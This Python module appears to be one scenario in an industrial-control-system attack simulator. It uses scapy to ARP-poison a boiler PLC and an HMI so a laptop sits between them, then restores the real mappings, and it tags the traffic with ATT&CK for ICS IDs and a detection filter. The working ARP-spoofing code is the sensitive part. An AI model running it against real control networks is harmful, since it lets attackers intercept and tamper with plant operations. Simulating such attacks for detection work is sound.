"""The laptop answers ARP for the boiler PLC, between it and the HMI."""

from __future__ import annotations

from scapy.layers.l2 import ARP, Ether
from scapy.sendrecv import sendp

from ..node import Node

TITLE = "ARP replies of a new device claim the addresses of boiler PLC and HMI"
TECHNIQUES = ("T0830", "T0849")
ORIGIN = "laptop"
ENTITIES = ("laptop", "plc-boiler", "hmi")
EVIDENCE = "arp.opcode == 2 && eth.src == 00:e0:4c:68:0b:99 && arp.src.proto_ipv4 != 10.20.1.99"

REPEATS = 12


def claim(node: Node, address: str, towards: str) -> Ether:
    """A reply to one victim that the address has our MAC."""
    victim = node.plant.host(towards)
    return Ether(src=node.host.mac, dst=victim.mac) / ARP(
        op=2, psrc=address, hwsrc=node.host.mac, pdst=victim.ip, hwdst=victim.mac
    )


def run(node: Node) -> None:
    """Poison both sides for a while; then put the truth back, as tools do on exit."""
    plc, hmi = node.plant.host("plc-boiler"), node.plant.host("hmi")
    for _ in range(REPEATS):
        sendp(
            [claim(node, plc.ip, "hmi"), claim(node, hmi.ip, "plc-boiler")], iface="eth0", verbose=0
        )
        node.pause(0.4)
    for true, victim in ((plc, hmi), (hmi, plc)):
        sendp(
            Ether(src=node.host.mac, dst=victim.mac)
            / ARP(op=2, psrc=true.ip, hwsrc=true.mac, pdst=victim.ip, hwdst=victim.mac),
            iface="eth0",
            verbose=0,
            count=2,
        )
